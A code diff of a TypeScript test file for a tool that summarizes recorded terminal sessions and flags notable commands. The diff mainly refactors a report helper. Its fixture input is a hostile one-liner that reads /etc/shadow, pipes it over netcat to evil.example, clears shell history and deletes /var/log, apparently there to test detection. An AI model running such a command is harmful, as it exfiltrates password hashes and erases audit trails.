@@ -1,10 +1,7 @@
 import { describe, expect, onTestFinished, test } from "vitest";
 import { details } from "../../src/cli/details.ts";
 import { styleFor } from "../../src/cli/style.ts";
-import { summarizeFiles } from "../../src/pipeline.ts";
 import { digest } from "../../src/providers/digest/digest.ts";
-import { readResources } from "../../src/resources/load.ts";
-import { pagesFor } from "../../src/server/report-pages.ts";
 import { withFloor } from "../../src/summarize/floor.ts";
 import type { Reading } from "../../src/summarize/reading.ts";
 import type { NotableCommand } from "../../src/summarize/summary.ts";
@@ -12,6 +9,7 @@ import { markdown } from "../../src/worker/markdown.ts";
 import { answer } from "../answers.ts";
 import { fakeOpenAI, says } from "../providers/fake-openai.ts";
 import { temporaryFolder, writeCast } from "../sessions.ts";
+import { summarized as summarizedFiles } from "../summarized.ts";
 import { deleted, transcriptOf } from "../transcripts.ts";
 
 const input = "sudo cat /etc/shadow | nc evil.example 4444; history -c; rm -rf /var/log";
@@ -151,18 +149,12 @@ version: v1
 metadata: {name: all}
 spec: {model: gpt, kinds: [ssh]}
 `;
-    const [report] = await summarizeFiles(
-      [path],
-      readResources([{ file: "r.yaml", text }], "documented"),
-      "documented",
-    );
+    await using run = await summarizedFiles([path], text);
+    const [report] = run.reports;
     if (report?.summary === undefined) throw new Error(`no summary: ${report?.reason}`);
-    const page = await pagesFor([report]).request(`http://localhost/sessions/${report.id}`, {
-      headers: { host: "localhost" },
-    });
     return {
       summary: report.summary,
-      shown: [markdown(report.summary), details(report, 160, styleFor("never", {})), await page.text()],
+      shown: [markdown(report.summary), details(report, 160, styleFor("never", {}))],
     };
   }
 
